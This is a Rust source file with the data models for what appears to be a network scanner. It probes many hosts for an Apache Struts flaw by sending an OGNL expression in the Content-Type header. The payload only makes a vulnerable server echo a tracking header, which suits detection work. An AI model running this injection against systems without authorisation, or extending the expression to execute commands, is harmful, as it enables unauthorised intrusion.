// src/core/models.rs

use chrono::{DateTime, Utc};
use std::fmt;
use std::time::Duration;
use strum::Display;
use thiserror::Error;
use uuid::Uuid;

// --- Targets ---

/// A single (host, port) pair rendered as the URL a probe is sent to.
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
pub struct Target {
    host: String,
    port: u16,
    url: String,
}

impl Target {
    /// Renders the URL for `host` on `port`.
    ///
    /// Port 443 selects `https`, anything else `http`. The port is only spelled
    /// out in the URL when it is neither 80 nor 443.
    pub fn new(host: &str, port: u16) -> Self {
        let scheme = if port == 443 { "https" } else { "http" };
        let url = match port {
            80 | 443 => format!("{}://{}/", scheme, host),
            _ => format!("{}://{}:{}/", scheme, host, port),
        };
        Self { host: host.to_string(), port, url }
    }

    pub fn host(&self) -> &str {
        &self.host
    }

    pub fn port(&self) -> u16 {
        self.port
    }

    pub fn url(&self) -> &str {
        &self.url
    }
}

impl fmt::Display for Target {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.url)
    }
}

// --- Probe data ---

/// Response header a vulnerable server is told to set.
pub const CHECK_HEADER: &str = "X-Check-Struts";

/// Per-probe marker that a vulnerable server echoes back.
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
pub struct CorrelationToken(String);

impl CorrelationToken {
    pub fn generate() -> Self {
        Self(Uuid::new_v4().hyphenated().to_string())
    }

    pub fn as_str(&self) -> &str {
        &self.0
    }
}

impl fmt::Display for CorrelationToken {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

/// Everything needed for one probe. Dropped as soon as the probe returns.
#[derive(Debug)]
pub struct ProbeRequest<'a> {
    pub target: &'a Target,
    pub token: CorrelationToken,
    pub timeout: Duration,
}

impl<'a> ProbeRequest<'a> {
    pub fn new(target: &'a Target, timeout: Duration) -> Self {
        Self { target, token: CorrelationToken::generate(), timeout }
    }

    /// The `Content-Type` value carrying the OGNL expression.
    pub fn payload(&self) -> String {
        format!(
            "%{{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse'].addHeader('{}', '{}')}}.multipart/form-data",
            CHECK_HEADER,
            self.token
        )
    }
}

/// Transport-level failure of a single probe.
#[derive(Debug, Clone, PartialEq, Eq, Error)]
pub enum ProbeError {
    #[error("request timed out after {0:?}")]
    Timeout(Duration),
    #[error("connection failed: {0}")]
    Connect(String),
    #[error("request failed: {0}")]
    Request(String),
}

#[derive(Debug, Clone)]
pub struct ProbeResult {
    pub target: Target,
    pub vulnerable: bool,
    pub error: Option<ProbeError>,
    /// Status code of the response, if one was received.
    pub status: Option<u16>,
    pub elapsed: Duration,
}

impl ProbeResult {
    pub fn outcome(&self) -> ProbeOutcome {
        match (&self.error, self.vulnerable) {
            (Some(_), _) => ProbeOutcome::TransportFailed,
            (None, true) => ProbeOutcome::Vulnerable,
            (None, false) => ProbeOutcome::NotVulnerable,
        }
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Display)]
#[strum(serialize_all = "snake_case")]
pub enum ProbeOutcome {
    Vulnerable,
    NotVulnerable,
    TransportFailed,
}

// --- Scan summary ---

/// Aggregate counts for a finished scan.
#[derive(Debug, Clone)]
pub struct ScanSummary {
    pub total: usize,
    pub probed: usize,
    pub vulnerable: usize,
    pub errors: usize,
    pub started_at: DateTime<Utc>,
    pub elapsed: Duration,
}

impl ScanSummary {
    pub fn new(total: usize) -> Self {
        Self {
            total,
            probed: 0,
            vulnerable: 0,
            errors: 0,
            started_at: Utc::now(),
            elapsed: Duration::ZERO,
        }
    }

    pub fn record(&mut self, result: &ProbeResult) {
        self.probed += 1;
        match result.outcome() {
            ProbeOutcome::Vulnerable => self.vulnerable += 1,
            ProbeOutcome::TransportFailed => self.errors += 1,
            ProbeOutcome::NotVulnerable => {}
        }
    }

    /// Folds a worker's tally into this summary.
    pub fn merge(&mut self, other: &ScanSummary) {
        self.probed += other.probed;
        self.vulnerable += other.vulnerable;
        self.errors += other.errors;
    }
}
